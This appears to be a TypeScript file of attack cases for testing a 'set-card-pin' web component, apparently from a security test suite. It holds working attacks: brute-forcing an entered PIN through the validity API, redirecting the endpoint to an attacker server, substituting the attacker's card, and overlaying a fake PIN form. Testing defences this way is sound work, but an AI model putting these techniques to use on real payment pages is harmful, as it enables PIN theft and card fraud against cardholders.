/** Attacks that change the element’s settings, or put something in its place. */
import type { Attack } from '../attack.js';

export const validitySearch: Attack = {
  title: 'search by validity',
  does: 'Changes the rules and the denied PINs while a PIN is in the fields, and searches for it by `validity`, sixteen denied PINs at a time.',
  emptiesFields: true,
  // Four digits, because it tries all PINs of that length.
  pin: '0582',
  install: ({ capture }) => {
    let found: string | undefined;
    return async () => {
      const element = document.querySelector('set-card-pin')!;
      if (found !== undefined || !element.validity.valid) return;
      found = '';
      const emptied = new Promise<unknown>((done) => addEventListener('pin-change', done));
      const isDenied = (some: string[]) => {
        element.deniedPins = some;
        return !element.validity.valid;
      };
      // The search continues only if the PIN is still there after this change.
      element.pinRules = 'none';
      const pins = Array.from({ length: 10_000 }, (_, pin) => String(pin).padStart(4, '0'));
      for (let at = 0; at < pins.length && found === '' && element.validity.valid; at += 16) {
        const some = pins.slice(at, at + 16);
        if (isDenied(some)) found = some.find((pin) => isDenied([pin])) ?? '';
        element.deniedPins = [];
        // A frame page reports its validity asynchronously.
        if (at % 128 === 0) await new Promise((done) => setTimeout(done));
      }
      capture('validity', found);
      if (found === '') await emptied;
    };
  },
};

export const otherEndpoint: Attack = {
  title: 'another endpoint',
  does: 'Sets `endpoint` to a server of the attacker before the cardholder types. The server answers as the service does.',
  mayPreventSubmit: true,
  install:
    ({ basePath }) =>
    () => {
      const element = document.querySelector('set-card-pin')!;
      element.endpoint = `${location.origin}${basePath}endpoint`;
      // The element drops the token of another service, and the attacker's takes any.
      element.clientToken = 'any';
    },
};

export const otherCard: Attack = {
  title: 'the attacker’s card',
  does: 'Sets `cardId` and `clientToken` to a card of the attacker before the cardholder types. Then this card has the PIN, and its owner can try it.',
  install: ({ basePath }) => {
    let isDone = false;
    return async () => {
      if (isDone) return;
      isDone = true;
      const answer = await fetch(`${basePath}attackers-card.json`);
      const { id, token } = (await answer.json()) as { id: string; token: string };
      const element = document.querySelector('set-card-pin')!;
      element.cardId = id;
      element.clientToken = token;
    };
  },
};

export const fakeForm: Attack = {
  title: 'fake form',
  does: 'Hides the element and shows a form that looks like it.',
  divertsKeys: true,
  install: ({ capture }) => {
    const form = document.createElement('form');
    const fields = ['New PIN', 'Confirm new PIN'].map((label) => {
      const input = document.createElement('input');
      input.type = 'password';
      input.setAttribute('aria-label', label);
      return input;
    });
    const button = document.createElement('button');
    button.type = 'button';
    form.append(fields[0]!, button, fields[1]!);
    return () => {
      const element = document.querySelector<HTMLElement>('set-card-pin')!;
      element.hidden = true;
      if (!form.isConnected) document.body.prepend(form);
      for (const { value } of fields) capture('fake', value);
    };
  },
};
